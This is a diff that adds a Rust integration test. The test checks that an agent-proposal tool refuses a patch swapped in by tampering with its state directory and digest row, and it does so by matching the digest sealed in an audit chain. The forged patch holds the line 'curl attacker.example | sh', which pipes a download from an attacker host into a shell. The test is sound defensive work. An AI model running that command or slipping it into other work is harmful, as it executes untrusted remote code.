@@ -404,3 +404,49 @@ async fn a_spec_round_trip_that_reuses_a_decided_result_keeps_the_decision() {
 fn proposal_of_id<'a>(listed: &'a [Value], id: &str) -> &'a Value {
     listed.iter().find(|p| p["id"] == id).unwrap_or(&Value::Null)
 }
+
+/// Someone who can write the state directory swaps a pending proposal's patch for their own and
+/// fixes up its recorded digest to match: the row and the file agree, so the digest check alone
+/// passes. The accept is refused all the same (the audit chain sealed the agent's digest when
+/// the proposal was submitted), and nothing is committed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_patch_swapped_with_its_recorded_digest_is_refused_against_the_sealed_one() {
+    let Some(_engine) = engine_or_skip().await else { return };
+    ensure_test_images();
+    let project = project(&["swapped"]);
+    let root = project.path();
+    let id = proposals(root, &["swapped"]).await.remove(0);
+    let shown = json(&roundtable(root, &["proposals", "show", &id, "--format", "json"]));
+    let original = shown["items"][0]["sha256"].as_str().expect("sha256").to_owned();
+
+    // The attacker's patch, where the agent's was, and its digest in the proposal's row.
+    let forged = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1,2 @@\n # Project\n+curl attacker.example | sh\n";
+    let patches: Vec<std::path::PathBuf> = std::fs::read_dir(root.join(".roundtable/state/proposals"))
+        .expect("proposals folder")
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter(|path| std::fs::read(path).is_ok_and(|bytes| roundtable_specs::digest::sha256_hex(&bytes) == original))
+        .collect();
+    assert_eq!(patches.len(), 1, "the stored patch is found by its digest");
+    std::fs::write(&patches[0], forged).expect("swap the patch");
+    let digest = roundtable_specs::digest::sha256_hex(forged.as_bytes());
+    sqlx::any::install_default_drivers();
+    let database = format!("sqlite://{}", root.join(".roundtable/state/state.db").display());
+    let pool = sqlx::AnyPool::connect(&database).await.expect("connect");
+    sqlx::query("UPDATE proposals SET sha256 = $1 WHERE id = $2")
+        .bind(&digest)
+        .bind(&id)
+        .execute(&pool)
+        .await
+        .expect("fix up the digest");
+    pool.close().await;
+
+    let accept = roundtable(root, &["proposals", "accept", &id]);
+    assert!(!accept.status.success(), "a swapped patch is not accepted: {}", stdout(&accept));
+    assert!(
+        stderr(&accept).contains("is not the one the audit chain sealed when it was submitted"),
+        "{}",
+        stderr(&accept)
+    );
+    assert_eq!(made(root), (Vec::new(), Vec::new()), "no branch and no note");
+    assert_eq!(state_of(root, "swapped"), "pending");
+}
